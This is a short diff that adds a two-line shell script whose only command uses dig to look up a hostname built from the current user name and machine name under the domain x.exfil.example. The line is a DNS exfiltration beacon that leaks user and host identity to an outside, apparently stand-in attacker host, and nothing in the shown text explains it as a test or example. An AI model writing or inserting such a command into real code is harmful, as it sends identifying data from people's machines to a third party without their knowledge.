@@ -1,0 +1,2 @@
+#!/bin/sh
+dig +short "$(whoami).$(hostname).x.exfil.example"
